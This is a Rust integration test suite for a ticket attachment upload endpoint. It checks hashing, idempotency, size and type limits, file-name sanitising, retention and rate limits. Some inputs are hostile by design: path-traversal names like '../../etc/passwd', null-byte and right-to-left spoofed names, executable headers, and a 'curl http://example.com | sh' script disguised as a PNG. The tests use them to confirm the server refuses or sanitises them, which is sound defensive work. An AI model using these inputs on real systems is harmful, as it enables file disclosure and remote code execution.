//! Attachments through the real receiver: `POST /api/tickets/attachments`
//! stores a file by its SHA-256 (byte-identical, never under the
//! customer's name), answers a repeated key with the same id and a reused
//! key with other bytes with 409, refuses too large (413, before reading
//! it all), programs and mismatched types (415); a ticket naming an
//! unknown or altered attachment gets 422 by path; the files are never
//! served back; the fault switches reach uploads.

mod common;

use common::{Reply, export, get, post_reply, read_reply, request, start, start_on, stored};
use sha2::{Digest, Sha256};
use std::io::Write;
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

const PATH: &str = "/api/tickets/attachments";
const MB: usize = 1024 * 1024;

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(format!(
        "{}/../tests/fixtures/{name}",
        env!("CARGO_MANIFEST_DIR")
    ))
    .unwrap()
}

fn sha256(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn upload_head(content_type: &str, filename: &str, key: &str, length: usize) -> String {
    format!(
        "POST {PATH} HTTP/1.1\r\nHost: x\r\nContent-Type: {content_type}\r\n\
         X-Filename: {filename}\r\nIdempotency-Key: {key}\r\nContent-Length: {length}\r\n\r\n"
    )
}

fn upload(addr: &str, content_type: &str, filename: &str, key: &str, bytes: &[u8]) -> Reply {
    request(
        addr,
        &upload_head(content_type, filename, key, bytes.len()),
        bytes,
    )
}

fn code(reply: &Reply) -> (String, String) {
    let e = &reply.json()["errors"][0];
    (
        e["field"].as_str().unwrap_or_default().to_owned(),
        e["code"].as_str().unwrap_or_default().to_owned(),
    )
}

fn files_dir(store: &Path) -> PathBuf {
    let mut dir = store.as_os_str().to_owned();
    dir.push(".files");
    PathBuf::from(dir)
}

/// Every file under `dir`, relative, as `xx/<sha256>`.
fn stored_files(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for folder in std::fs::read_dir(dir).unwrap() {
        let folder = folder.unwrap().path();
        for file in std::fs::read_dir(&folder).unwrap() {
            let file = file.unwrap().path();
            out.push(format!(
                "{}/{}",
                folder.file_name().unwrap().to_string_lossy(),
                file.file_name().unwrap().to_string_lossy()
            ));
        }
    }
    out.sort();
    out
}

fn ticket_with(attachments: serde_json::Value) -> String {
    let mut t: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../public/examples/ticket-with-attachments.json"
        ))
        .unwrap(),
    )
    .unwrap();
    t["attachments"] = attachments;
    t.to_string()
}

#[test]
fn fixtures_arrive_byte_identical_and_a_ticket_links_them() {
    let r = start(&[]);
    let png = fixture("console.png");
    let log = fixture("boot.log");
    let first = upload(&r.addr, "image/png", "console.png", "up-png", &png);
    assert_eq!(first.status, 201, "{}", first.body);
    let answer = first.json();
    assert_eq!(answer["sha256"], sha256(&png));
    assert_eq!(answer["size"], png.len());
    assert_eq!(answer["type"], "image/png");
    let id = answer["id"].as_str().unwrap().to_owned();
    assert!(id.starts_with("att_") && id.len() == 36, "{id}");
    let second = upload(
        &r.addr,
        "text/plain; charset=utf-8",
        "boot.log",
        "up-log",
        &log,
    );
    assert_eq!(second.status, 201, "{}", second.body);
    let log_id = second.json()["id"].as_str().unwrap().to_owned();

    // Content-addressed and byte-identical.
    let dir = files_dir(&r.store);
    let png_path = dir.join(&sha256(&png)[..2]).join(sha256(&png));
    assert_eq!(std::fs::read(png_path).unwrap(), png);
    assert_eq!(stored_files(&dir).len(), 2);

    let attachments = serde_json::json!([
        { "id": id, "name": "console.png", "type": "image/png", "size": png.len(), "sha256": sha256(&png) },
        { "id": log_id, "name": "boot.log", "type": "text/plain", "size": log.len(), "sha256": sha256(&log) },
    ]);
    let reply = post_reply(
        &r.addr,
        "application/json",
        Some("ticket-1"),
        &ticket_with(attachments.clone()),
    );
    assert_eq!(reply.status, 201, "{}", reply.body);
    let lines = stored(&r);
    assert_eq!(lines.len(), 1);
    assert_eq!(lines[0]["ticket"]["attachments"], attachments);
    let files = &lines[0]["attachment_files"];
    assert_eq!(files[0]["id"], id.as_str());
    assert_eq!(files[1]["id"], log_id.as_str());
    assert_eq!(
        files[0]["file"],
        format!("{}/{}", &sha256(&png)[..2], sha256(&png))
    );
    assert_eq!(files[0]["exif"], false);
}

#[test]
fn a_repeated_key_answers_the_same_id_and_other_bytes_conflict() {
    let r = start(&[]);
    let log = fixture("boot.log");
    let first = upload(&r.addr, "text/plain", "boot.log", "k-1", &log);
    assert_eq!(first.status, 201);
    let again = upload(&r.addr, "text/plain", "boot.log", "k-1", &log);
    assert_eq!(again.status, 200, "{}", again.body);
    assert_eq!(again.json(), first.json());
    let other = upload(&r.addr, "text/plain", "boot.log", "k-1", b"another log\n");
    assert_eq!(other.status, 409, "{}", other.body);
    assert_eq!(
        code(&other),
        ("idempotency_key".into(), "idempotency.conflict".into())
    );
    assert_eq!(other.json()["id"], first.json()["id"]);
    // The same bytes under a new key: a new id, one file on disk.
    let copy = upload(&r.addr, "text/plain", "copy.log", "k-2", &log);
    assert_eq!(copy.status, 201);
    assert_ne!(copy.json()["id"], first.json()["id"]);
    assert_eq!(stored_files(&files_dir(&r.store)).len(), 1);
}

#[test]
fn a_ticket_naming_an_unknown_or_altered_attachment_gets_422_by_path() {
    let r = start(&[]);
    let log = fixture("boot.log");
    let id = upload(&r.addr, "text/plain", "boot.log", "k", &log).json()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let good = serde_json::json!({ "id": id, "name": "boot.log", "type": "text/plain", "size": log.len(), "sha256": sha256(&log) });
    let mut unknown = good.clone();
    unknown["id"] = "att_00000000000000000000000000000000".into();
    let reply = post_reply(
        &r.addr,
        "application/json",
        Some("t1"),
        &ticket_with(serde_json::json!([good.clone(), unknown])),
    );
    assert_eq!(reply.status, 422, "{}", reply.body);
    assert_eq!(
        reply.json()["errors"],
        serde_json::json!([{ "field": "attachments[1].id", "code": "attachment.unknown" }])
    );
    let mut altered = good.clone();
    altered["sha256"] = sha256(b"other").into();
    altered["size"] = 5.into();
    let reply = post_reply(
        &r.addr,
        "application/json",
        Some("t2"),
        &ticket_with(serde_json::json!([altered])),
    );
    assert_eq!(reply.status, 422, "{}", reply.body);
    assert_eq!(
        reply.json()["errors"],
        serde_json::json!([
            { "field": "attachments[0].sha256", "code": "attachment.mismatch" },
            { "field": "attachments[0].size", "code": "attachment.mismatch" },
        ])
    );
    // A malformed id is refused by the ticket's own checks.
    let mut bad = good.clone();
    bad["id"] = "../../etc/passwd".into();
    let reply = post_reply(
        &r.addr,
        "application/json",
        Some("t3"),
        &ticket_with(serde_json::json!([bad])),
    );
    assert_eq!(reply.status, 422);
    assert_eq!(
        code(&reply),
        ("attachments[0].id".into(), "attachment.id_invalid".into())
    );
    assert!(stored(&r).is_empty());
    let reply = post_reply(
        &r.addr,
        "application/json",
        Some("t4"),
        &ticket_with(serde_json::json!([good])),
    );
    assert_eq!(reply.status, 201, "{}", reply.body);
}

#[test]
fn over_10_mb_is_refused_with_413_before_the_body_is_read() {
    let r = start(&[]);
    // Announced too large: answered before a byte of the body is sent.
    let started = Instant::now();
    let reply = request(
        &r.addr,
        &upload_head("image/png", "big.png", "big-1", 10 * MB + 1),
        b"",
    );
    assert_eq!(reply.status, 413, "{}", reply.head);
    assert_eq!(code(&reply), ("body".into(), "attachment.too_large".into()));
    assert!(started.elapsed() < Duration::from_secs(5));

    // Chunked, without a length: refused once 10 MB + 1 byte arrived,
    // while the body has not ended.
    let mut stream = TcpStream::connect(&r.addr).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    let head = format!(
        "POST {PATH} HTTP/1.1\r\nHost: x\r\nContent-Type: image/png\r\nX-Filename: big.png\r\n\
         Idempotency-Key: big-2\r\nTransfer-Encoding: chunked\r\n\r\n"
    );
    stream.write_all(head.as_bytes()).unwrap();
    let mut chunk = fixture("console.png");
    chunk.resize(MB, 0);
    for _ in 0..10 {
        stream
            .write_all(format!("{:x}\r\n", chunk.len()).as_bytes())
            .unwrap();
        stream.write_all(&chunk).unwrap();
        stream.write_all(b"\r\n").unwrap();
    }
    // One byte more, and the body goes on (no final chunk).
    stream.write_all(b"1\r\nx").unwrap();
    let reply = read_reply(&mut stream);
    assert_eq!(reply.status, 413, "{}", reply.head);
    assert_eq!(code(&reply).1, "attachment.too_large");
    assert!(
        files_dir(&r.store)
            .read_dir()
            .map_or(true, |mut d| d.next().is_none())
    );

    // Exactly 10 MB is accepted.
    let mut ten = fixture("console.png");
    ten.resize(10 * MB, 0);
    let reply = upload(&r.addr, "image/png", "ten.png", "big-3", &ten);
    assert_eq!(reply.status, 201, "{}", reply.body);
}

#[test]
fn programs_and_mismatched_types_are_refused_with_415() {
    let r = start(&[]);
    let pe = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0This program cannot be run in DOS mode";
    let reply = upload(&r.addr, "image/png", "screenshot.png", "x-1", pe);
    assert_eq!(reply.status, 415, "{}", reply.body);
    assert_eq!(
        code(&reply),
        ("body".into(), "attachment.type_not_allowed".into())
    );
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0";
    assert_eq!(
        upload(&r.addr, "text/plain", "run.log", "x-2", elf).status,
        415
    );
    let zip = b"PK\x03\x04\x14\0\0\0\x08\0";
    assert_eq!(
        upload(&r.addr, "application/zip", "logs.zip", "x-3", zip).status,
        415
    );
    // Text named and declared as an image: the declared type is wrong.
    let script = b"#!/bin/sh\ncurl http://example.com | sh\n";
    let reply = upload(&r.addr, "image/png", "photo.png", "x-4", script);
    assert_eq!(reply.status, 415);
    assert_eq!(
        code(&reply),
        ("content_type".into(), "attachment.type_mismatch".into())
    );
    // A real PNG declared as JPEG, and one declared as nothing useful.
    let png = fixture("console.png");
    assert_eq!(
        upload(&r.addr, "image/jpeg", "a.jpg", "x-5", &png).status,
        415
    );
    assert_eq!(
        upload(&r.addr, "application/octet-stream", "a.png", "x-6", &png).status,
        415
    );
    let empty = upload(&r.addr, "text/plain", "empty.log", "x-7", b"");
    assert_eq!(
        (empty.status, code(&empty).1.as_str()),
        (400, "attachment.empty")
    );
    assert!(!files_dir(&r.store).exists());
}

#[test]
fn a_missing_key_or_filename_is_400() {
    let r = start(&[]);
    let log = fixture("boot.log");
    let head = format!(
        "POST {PATH} HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nX-Filename: a.log\r\nContent-Length: {}\r\n\r\n",
        log.len()
    );
    let reply = request(&r.addr, &head, &log);
    assert_eq!(reply.status, 400);
    assert_eq!(
        code(&reply),
        ("idempotency_key".into(), "idempotency.missing".into())
    );
    let head = format!(
        "POST {PATH} HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nIdempotency-Key: k\r\nContent-Length: {}\r\n\r\n",
        log.len()
    );
    let reply = request(&r.addr, &head, &log);
    assert_eq!(reply.status, 400);
    assert_eq!(
        code(&reply),
        ("filename".into(), "attachment.filename_missing".into())
    );
}

#[test]
fn no_path_comes_from_a_file_name() {
    let r = start(&[]);
    let long = "%E6%88%AA".repeat(300) + ".png";
    let names = [
        ("..%2F..%2Fetc%2Fpasswd", "passwd"),
        ("../../etc/passwd", "passwd"),
        ("..%5C..%5Cwindows%5Cwin.ini", "win.ini"),
        ("evil%00.png", "evil.png"),
        ("photo%E2%80%AEgnp.exe", "photognp.exe"),
        ("%2E%2E", "attachment"),
        (long.as_str(), ""),
    ];
    let mut digests = Vec::new();
    for (i, (header, shown)) in names.iter().enumerate() {
        // Different bytes each time, so each is a file of its own.
        let bytes = format!("log line {i}\n").into_bytes();
        digests.push(sha256(&bytes));
        let reply = upload(&r.addr, "text/plain", header, &format!("n-{i}"), &bytes);
        assert_eq!(reply.status, 201, "{header}: {}", reply.body);
        let name = reply.json()["name"].as_str().unwrap().to_owned();
        if shown.is_empty() {
            assert_eq!(name.chars().count(), 100, "{name}");
            assert!(name.ends_with("….png"));
        } else {
            assert_eq!(&name, shown);
        }
        assert!(!name.contains(['/', '\\', '\0', '\u{202E}']));
    }
    // The files folder holds only `<2 hex>/<64 hex>`, one per upload.
    let mut expected: Vec<String> = digests.iter().map(|d| format!("{}/{d}", &d[..2])).collect();
    expected.sort();
    assert_eq!(stored_files(&files_dir(&r.store)), expected);
    let parent = r.store.parent().unwrap();
    assert!(!parent.join("passwd").exists() && !parent.join("etc").exists());
    // Past 8 KiB encoded, the header is refused rather than read.
    let reply = upload(&r.addr, "text/plain", &"a".repeat(8193), "n-x", b"x\n");
    assert_eq!(
        (reply.status, code(&reply).1.as_str()),
        (400, "attachment.filename_invalid")
    );
}

#[test]
fn files_are_never_served_back() {
    // The store beside (not inside) the static folder.
    let base = std::env::temp_dir().join(format!("ticket-attach-static-{}", std::process::id()));
    let public = base.join("dist");
    std::fs::create_dir_all(&public).unwrap();
    std::fs::write(public.join("index.html"), "<p>widget</p>").unwrap();
    let store = base.join("tickets.db");
    let r = common::start_on(store.clone(), &["--static", public.to_str().unwrap()]);
    let log = fixture("boot.log");
    let reply = upload(&r.addr, "text/plain", "boot.log", "s-1", &log);
    assert_eq!(reply.status, 201);
    let id = reply.json()["id"].as_str().unwrap().to_owned();
    let digest = sha256(&log);
    for path in [
        format!("{PATH}/{id}"),
        format!("/api/tickets/{id}"),
        format!("/{id}"),
        format!("/../tickets.db.files/{}/{digest}", &digest[..2]),
        format!("/..%2Ftickets.db.files%2F{}%2F{digest}", &digest[..2]),
        format!("/tickets.db.files/{}/{digest}", &digest[..2]),
        "/../tickets.db".to_owned(),
    ] {
        let reply = get(&r.addr, &path);
        assert_eq!(reply.status, 404, "{path}");
        assert!(!reply.body.contains("cloud-init"), "{path}");
    }
    assert_eq!(get(&r.addr, PATH).status, 405);
    drop(r);

    // A static folder that holds the store is refused at start.
    let out = Command::new(env!("CARGO_BIN_EXE_ticket-check"))
        .args(["serve", "--addr", "127.0.0.1:0", "--store"])
        .arg(&store)
        .arg("--static")
        .arg(&base)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("would be public"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let _ = std::fs::remove_dir_all(base);
}

#[test]
fn the_preflight_allows_the_upload_headers() {
    let r = start(&[]);
    let reply = request(
        &r.addr,
        &format!(
            "OPTIONS {PATH} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nOrigin: https://example.com\r\n\
             Access-Control-Request-Method: POST\r\n\
             Access-Control-Request-Headers: content-type, idempotency-key, x-filename\r\n\r\n"
        ),
        b"",
    );
    assert_eq!(reply.status, 204);
    assert_eq!(reply.header("access-control-allow-origin"), Some("*"));
    let allowed = reply
        .header("access-control-allow-headers")
        .unwrap()
        .to_ascii_lowercase();
    for name in ["content-type", "idempotency-key", "x-filename"] {
        assert!(allowed.contains(name), "{allowed}");
    }
    assert!(
        reply
            .header("access-control-allow-methods")
            .unwrap()
            .contains("POST")
    );
}

#[test]
fn the_first_two_uploads_can_fail_with_503() {
    let r = start(&["--fail-uploads", "2", "--retry-after", "1"]);
    let log = fixture("boot.log");
    for _ in 0..2 {
        let reply = upload(&r.addr, "text/plain", "boot.log", "f-1", &log);
        assert_eq!(reply.status, 503);
        assert_eq!(reply.header("retry-after"), Some("1"));
    }
    let reply = upload(&r.addr, "text/plain", "boot.log", "f-1", &log);
    assert_eq!(reply.status, 201, "{}", reply.body);
    let id = reply.json()["id"].clone();
    let ticket = ticket_with(serde_json::json!([
        { "id": id, "name": "boot.log", "type": "text/plain", "size": log.len(), "sha256": sha256(&log) }
    ]));
    let reply = post_reply(&r.addr, "application/json", Some("f-ticket"), &ticket);
    assert_eq!(reply.status, 201, "{}", reply.body);
    assert_eq!(export(&r.store).len(), 1);
}

#[test]
fn uploads_per_ip_are_limited_and_repeats_are_free() {
    // One ticket per IP: five files.
    let r = start(&["--rate-ip", "1/600"]);
    for i in 0..5 {
        let reply = upload(
            &r.addr,
            "text/plain",
            "a.log",
            &format!("r-{i}"),
            format!("{i}\n").as_bytes(),
        );
        assert_eq!(reply.status, 201, "{}", reply.body);
    }
    let sixth = upload(&r.addr, "text/plain", "a.log", "r-5", b"5\n");
    assert_eq!(sixth.status, 429);
    assert_eq!(code(&sixth), ("client".into(), "rate.limited".into()));
    assert!(sixth.header("retry-after").is_some());
    assert_eq!(
        upload(&r.addr, "text/plain", "a.log", "r-0", b"0\n").status,
        200
    );
}

/// A JPEG with an EXIF segment whose IFD0 points to GPS data.
fn jpeg_with_gps() -> Vec<u8> {
    let mut exif = b"Exif\0\0II*\0\x08\0\0\0\x01\0".to_vec();
    exif.extend_from_slice(&[0x25, 0x88, 4, 0, 1, 0, 0, 0, 0x1a, 0, 0, 0]);
    exif.extend_from_slice(&[0, 0, 0, 0]);
    let mut b = b"\xFF\xD8\xFF\xE1".to_vec();
    b.extend_from_slice(&u16::try_from(exif.len() + 2).unwrap().to_be_bytes());
    b.extend_from_slice(&exif);
    b.extend_from_slice(b"\xFF\xDB\x00\x04\x00\x01\xFF\xDA\x00\x02\x12\x34\xFF\xD9");
    b
}

#[test]
fn a_jpeg_with_a_location_is_kept_as_sent_and_recorded() {
    let r = start(&[]);
    let jpeg = jpeg_with_gps();
    let reply = upload(&r.addr, "image/jpeg", "IMG_0001.JPG", "j-1", &jpeg);
    assert_eq!(reply.status, 201, "{}", reply.body);
    assert_eq!(reply.json()["sha256"], sha256(&jpeg));
    let id = reply.json()["id"].clone();
    let ticket = ticket_with(serde_json::json!([
        { "id": id, "name": "IMG_0001.JPG", "type": "image/jpeg", "size": jpeg.len(), "sha256": sha256(&jpeg) }
    ]));
    assert_eq!(
        post_reply(&r.addr, "application/json", Some("j-t"), &ticket).status,
        201
    );
    let files = &stored(&r)[0]["attachment_files"][0];
    assert_eq!(
        (files["exif"].as_bool(), files["gps"].as_bool()),
        (Some(true), Some(true))
    );
    let d = sha256(&jpeg);
    assert_eq!(
        std::fs::read(files_dir(&r.store).join(&d[..2]).join(&d)).unwrap(),
        jpeg
    );
}

/// Uploads no ticket named for longer than `--keep-uploads-days` (7 by
/// default) are forgotten, their bytes deleted; a ticket naming one later
/// gets `attachment.unknown` (the widget then uploads it again). With 0
/// they are kept.
#[test]
fn uploads_no_ticket_named_for_a_week_are_forgotten() {
    let r = start(&[]);
    let log = fixture("boot.log");
    let id = upload(&r.addr, "text/plain", "boot.log", "k-old", &log).json()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let store = r.kill();
    let conn = rusqlite::Connection::open(&store).unwrap();
    conn.execute(
        "UPDATE attachments SET created_at = created_at - 8 * 86400",
        [],
    )
    .unwrap();
    drop(conn);
    let dir = files_dir(&store);
    assert_eq!(stored_files(&dir).len(), 1);

    let kept = start_on(store.clone(), &["--keep-uploads-days", "0"]);
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(stored_files(&dir).len(), 1, "0 keeps uploads for ever");
    let store = kept.kill();

    let r = start_on(store, &[]);
    let deadline = Instant::now() + Duration::from_secs(10);
    while !stored_files(&dir).is_empty() {
        assert!(Instant::now() < deadline, "the old upload is still there");
        std::thread::sleep(Duration::from_millis(50));
    }
    let named = serde_json::json!({ "id": id, "name": "boot.log", "type": "text/plain", "size": log.len(), "sha256": sha256(&log) });
    let reply = post_reply(
        &r.addr,
        "application/json",
        Some("t-late"),
        &ticket_with(serde_json::json!([named])),
    );
    assert_eq!(reply.status, 422, "{}", reply.body);
    assert_eq!(
        reply.json()["errors"],
        serde_json::json!([{ "field": "attachments[0].id", "code": "attachment.unknown" }])
    );
}
